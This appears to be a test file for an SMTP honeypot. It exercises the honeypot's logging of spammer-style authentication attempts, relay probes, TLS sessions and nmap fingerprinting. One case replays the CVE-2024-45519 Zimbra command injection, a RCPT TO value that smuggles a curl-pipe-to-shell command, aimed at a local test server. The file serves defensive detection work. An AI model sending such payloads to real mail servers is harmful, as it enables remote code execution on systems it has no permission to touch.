"""
cases_smtp.py - the SMTP module (issue 9), run by run.py.

swaks drives it as a spammer's checker would: AUTH PLAIN and AUTH LOGIN (the decoded credentials in
login events), a relay probe to a foreign domain (smtp.relay_attempt; accepted and captured by
default, refused with open_relay = false), a message whose stored bytes hash to the sha256 of its
smtp.message event; STARTTLS with swaks --tls when its Perl TLS module is installed, otherwise
with openssl s_client -starttls smtp; nmap -sV names Postfix, Exim and Sendmail.
"""
import hashlib
import json
import os
import re
import shutil
import subprocess

from harness import T, Service, Skip, by
from cases import case, stop_and_read


def need(*tools):
    for t in tools:
        if not shutil.which(t):
            raise Skip("%s is not installed" % t)


def smtp_svc(name, **opts):
    return Service(name, protocol="smtp", **opts)


def hostname_of(d):
    with open(os.path.join(d.data_dir, "identity")) as f:
        for line in f:
            if line.startswith("hostname="):
                return line.strip().split("=", 1)[1]
    raise AssertionError("no hostname in identity")


def swaks(port, *args):
    r = subprocess.run(["swaks", "--server", "127.0.0.1:%d" % port, "--helo", "bot.example.net",
                        "--timeout", "10"] + list(args),
                       capture_output=True, stdin=subprocess.DEVNULL, timeout=T(30))
    return r.returncode, r.stdout.decode("utf-8", "replace")


def smtp_events(evs):
    return [e for e in evs if e.get("protocol") == "smtp"]


@case
def smtp_swaks_auth_relay_and_message(ctx):
    """AUTH PLAIN and LOGIN logged with the decoded credentials; a relay probe is recognised; the message
    is stored and described; with open_relay = false the probe gets Postfix's refusal."""
    need("swaks")
    d = ctx.daemon("smtp-swaks", [smtp_svc("mx", server="postfix", accept_after="1"),
                                  smtp_svc("strict", server="postfix", open_relay="false")]).start()
    port, strict = d.svc("mx").port, d.svc("strict").port
    host = hostname_of(d)
    rc, out = swaks(port, "--to", "root@%s" % host, "--from", "a@b.example", "--auth", "PLAIN",
                    "--auth-user", "admin", "--auth-password", "P@ss word1")
    assert rc == 0 and "235 2.7.0 Authentication successful" in out, out
    assert re.search(r"<-  220 %s ESMTP Postfix \(Debian/GNU\)" % re.escape(host), out), out
    rc, out = swaks(port, "--to", "root@%s" % host, "--from", "a@b.example", "--auth", "LOGIN",
                    "--auth-user", "mailer", "--auth-password", "hunter2")
    assert rc == 0 and " -> bWFpbGVy" in out and "235 " in out, out
    body = "Hello,\n.leading dot line\nbuy now http://203.0.113.7/offer\n"
    rc, out = swaks(port, "--to", "victim@example.com", "--from", "spam@spam.example",
                    "--header", "Subject: relay test 42", "--body", body)
    assert rc == 0 and re.search(r"<-  250 2\.0\.0 Ok: queued as [0-9A-F]{10,12}", out), out
    rc, out = swaks(strict, "--to", "victim@example.com", "--from", "spam@spam.example", "--quit-after", "RCPT")
    # Debian's (and upstream's) defer_unauth_destination: 454, as Postfix 3.7.11 answers
    assert "454 4.7.1 <victim@example.com>: Relay access denied" in out, out
    evs = smtp_events(stop_and_read(d))
    ok = [e for e in evs if e["eventid"] == "login.success"]
    assert [(e["username"], e["password"], e["method"]) for e in ok] == [
        ("admin", "P@ss word1", "plain"), ("mailer", "hunter2", "login")], ok
    relay = [e for e in evs if e["eventid"] == "smtp.relay_attempt"]
    assert [(e["rcpt"], e["domain"], e["accepted"]) for e in relay] == [
        ("victim@example.com", "example.com", True), ("victim@example.com", "example.com", False)], relay
    msgs = [e for e in evs if e["eventid"] == "smtp.message" and e["subject"] == "relay test 42"]
    assert len(msgs) == 1, msgs
    m = msgs[0]
    assert m["mail_from"] == "spam@spam.example" and m["rcpts"] == ["victim@example.com"] and m["relay"], m
    with open(os.path.join(d.data_dir, "payloads", m["sha256"]), "rb") as f:
        stored = f.read()
    assert hashlib.sha256(stored).hexdigest() == m["sha256"] and len(stored) == m["size"], m
    assert b"\r\n.leading dot line\r\n" in stored and b"\r\n..leading" not in stored, stored[-300:]
    up = [e for e in evs if e["eventid"] == "session.file_upload" and e["shasum"] == m["sha256"]]
    assert up and up[0]["protocol_detail"] == "smtp", up
    cmds = [e["input"] for e in evs if e["eventid"] == "command.input"]
    assert "AUTH PLAIN AGFkbWluAFBAc3Mgd29yZDE=" in cmds and "RCPT TO:<victim@example.com>" in cmds, cmds
    assert not any("leading dot" in c or c in ("bWFpbGVy", "aHVudGVyMg==") for c in cmds), cmds


def swaks_has_tls():
    r = subprocess.run(["swaks", "--support", "STARTTLS"], capture_output=True, timeout=T(10))
    return r.returncode == 0


@case
def smtp_starttls(ctx):
    """STARTTLS: the handshake completes, the session goes on inside TLS (EHLO no longer offers
    STARTTLS), AUTH inside TLS is logged with tls = true."""
    d = ctx.daemon("smtp-tls", [smtp_svc("mx", server="exim")]).start()
    port = d.svc("mx").port
    if shutil.which("swaks") and swaks_has_tls():
        rc, out = swaks(port, "--tls", "--to", "x@example.org", "--auth", "PLAIN", "--auth-user", "tlsuser",
                        "--auth-password", "tlspass")
        assert "220 TLS go ahead" in out, out
        ctx.note("STARTTLS client: swaks --tls")
    else:
        need("openssl")
        ctx.note("STARTTLS client: openssl s_client (swaks lacks Net::SSLeay)")
        script = b"EHLO tlsclient\r\nAUTH PLAIN AHRsc3VzZXIAdGxzcGFzcw==\r\nQUIT\r\n"
        r = subprocess.run(["openssl", "s_client", "-starttls", "smtp", "-quiet", "-connect",
                            "127.0.0.1:%d" % port], input=script, capture_output=True, timeout=T(20))
        out = r.stdout.decode("utf-8", "replace")
        assert "250-AUTH PLAIN LOGIN" in out and "STARTTLS" not in out, out
        assert "535 Incorrect authentication data" in out, out
    evs = smtp_events(stop_and_read(d))
    tls = [e for e in evs if e["eventid"] == "smtp.starttls"]
    assert len(tls) == 1 and tls[0]["version"].startswith("TLSv1"), tls
    lg = [e for e in evs if e["eventid"] == "login.failed"]
    assert [(e["username"], e["password"], e["tls"]) for e in lg] == [("tlsuser", "tlspass", True)], lg


@case
def smtp_implicit_tls_smtps(ctx):
    """tls = implicit (SMTPS, 465): Python's smtplib.SMTP_SSL, a real submission client, gets the 220
    banner inside TLS, an EHLO without STARTTLS, and its AUTH PLAIN and LOGIN are logged with tls = true; the
    handshake is smtp.starttls with implicit = true; a client speaking plain SMTP there gets no
    banner and a tls.failed; nmap -sV sees SMTP inside SSL."""
    d = ctx.daemon("smtps", [smtp_svc("smtps", server="postfix", tls="implicit")]).start()
    port = d.svc("smtps").port
    host = hostname_of(d)
    script = r"""
import smtplib, ssl, sys
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
s = smtplib.SMTP_SSL(context=ctx, timeout=10)
s._host = "127.0.0.1"
code, welcome = s.connect("127.0.0.1", int(sys.argv[1]))
print("BANNER", s.sock.version(), code, welcome.decode())
code, msg = s.ehlo("checker.example")
print("EHLO", code, msg.decode().replace(chr(10), "|"))
try:
    s.login("info@example.com", "Summer2024!")
    print("LOGIN ok")
except smtplib.SMTPAuthenticationError as e:
    print("LOGIN", e.smtp_code)
s.quit()
"""
    r = subprocess.run(["/usr/bin/python3", "-c", script, str(port)], capture_output=True, timeout=T(30))
    out = r.stdout.decode("utf-8", "replace")
    assert r.returncode == 0, (out, r.stderr.decode()[-2000:])
    assert re.search(r"^BANNER TLSv1\.[23] 220 %s ESMTP Postfix \(Debian/GNU\)$" % re.escape(host), out, re.M), out
    ehlo = re.search(r"^EHLO 250 (.*)$", out, re.M)
    assert ehlo and "AUTH PLAIN LOGIN" in ehlo.group(1) and "STARTTLS" not in ehlo.group(1), out
    assert re.search(r"^LOGIN 535$", out, re.M), out
    # plain text on the SMTPS port: no banner in clear, the handshake fails
    plain = subprocess.run(["/usr/bin/python3", "-c",
                            "import socket,sys; s=socket.create_connection(('127.0.0.1',int(sys.argv[1])),timeout=3)\n"
                            "s.sendall(b'EHLO x\\r\\n')\n"
                            "try:\n print(repr(s.recv(100)))\nexcept Exception as e:\n print('ERR', e)", str(port)],
                           capture_output=True, timeout=T(20)).stdout.decode()
    assert "220" not in plain, plain
    if shutil.which("nmap"):
        nm = subprocess.run(["nmap", "-sV", "--version-light", "-Pn", "-n", "-p", str(port), "127.0.0.1"],
                            capture_output=True, text=True, timeout=T(120)).stdout
        assert re.search(r"^%d/tcp\s+open\s+ssl/smtp\s+Postfix smtpd" % port, nm, re.M), nm
    all_evs = stop_and_read(d)
    evs = smtp_events(all_evs)
    tls = [e for e in evs if e["eventid"] == "smtp.starttls"]
    assert tls and all(e.get("implicit") is True for e in tls) and tls[0]["version"].startswith("TLSv1"), tls
    lg = [e for e in evs if e["eventid"] == "login.failed"]
    # smtplib tries each mechanism the EHLO offers: PLAIN, then LOGIN
    assert [(e["username"], e["password"], e["method"], e["tls"]) for e in lg] == [
        ("info@example.com", "Summer2024!", "plain", True), ("info@example.com", "Summer2024!", "login", True)], lg
    assert any(e["eventid"] == "tls.failed" for e in all_evs), sorted(set(e["eventid"] for e in all_evs))


@case
def smtp_nmap_identifies_products(ctx):
    """nmap -sV names each MTA personality; nothing says honeypot."""
    need("nmap")
    names = {"postfix": r"Postfix smtpd", "exim": r"Exim smtpd 4\.\d+", "sendmail": r"Sendmail 8\.\d+"}
    svcs = [smtp_svc("smtp-%s" % n, server=n) for n in names]
    d = ctx.daemon("smtp-nmap", svcs).start()
    ports = ",".join(str(s.port) for s in svcs)
    r = subprocess.run(["nmap", "-Pn", "-n", "-sV", "-p", ports, "127.0.0.1"], capture_output=True,
                       stdin=subprocess.DEVNULL, timeout=T(120))
    out = r.stdout.decode("utf-8", "replace")
    assert r.returncode == 0, r.stderr
    assert "honeypot" not in out.lower(), out
    for s, (n, pat) in zip(svcs, names.items()):
        m = re.search(r"(?m)^%d/tcp\s+open\s+smtp\s+(.*)$" % s.port, out)
        assert m and re.match(pat, m.group(1)), (n, out)
        ctx.note("nmap: %s -> %s" % (n, m.group(1).strip()))
    d.stop()


@case
def smtp_zimbra_postjournal_injection(ctx):
    """CVE-2024-45519 as bots send it (real swaks): a $(curl${IFS}...) substitution in RCPT TO.  The
    command.input event carries the CVE, the URL is fetched, and the report ranks the CVE; a plain
    RCPT gets no attack fields."""
    need("swaks")
    from cases_capture import ALLOW_LOOPBACK, WebServer, wait_download
    from cases_report import report
    web = WebServer()
    ctx.defer(web.close)
    web.files["/z.sh"] = b"#!/bin/sh\necho zimbra\n"
    d = ctx.daemon("smtp-zimbra", [smtp_svc("mx", server="postfix")], capture=dict(ALLOW_LOOPBACK)).start()
    port = d.svc("mx").port
    url = web.url("/z.sh")
    rcpt = '"aabbb$(curl${IFS}%s|sh)"@mail.example.com' % url
    swaks(port, "--to", rcpt, "--from", "a@b.example", "--quit-after", "RCPT")
    swaks(port, "--to", "postmaster@example.com", "--from", "a@b.example", "--quit-after", "RCPT")
    wait_download(d, url)
    evs = stop_and_read(d)
    rc = [e for e in evs if e["eventid"] == "command.input" and e["command"] == "RCPT"]
    assert len(rc) == 2, rc
    bad = [e for e in rc if "aabbb" in e["input"]]
    assert len(bad) == 1 and bad[0]["cves"] == ["CVE-2024-45519"], rc
    assert set(bad[0]["attack_classes"]) == {"command-injection", "rce"}, bad
    good = [e for e in rc if "postmaster" in e["input"]]
    assert good and "cves" not in good[0] and "attack_classes" not in good[0], good
    dl = [e for e in evs if e["eventid"] == "session.file_download" and e.get("url") == url]
    assert len(dl) == 1 and dl[0]["found_in"] == "smtp" and dl[0]["session"] == bad[0]["session"], dl
    assert web.count("/z.sh") == 1
    day = evs[0]["timestamp"][:10]
    for extra in ([], ["--no-rollup"]):
        secs = {s["id"]: s for s in json.loads(report(d, "--json", "--since", day, *extra))["sections"]}
        assert [(r["cve"], r["attempts"]) for r in secs["cves"]["rows"]] == [("CVE-2024-45519", 1)], secs["cves"]
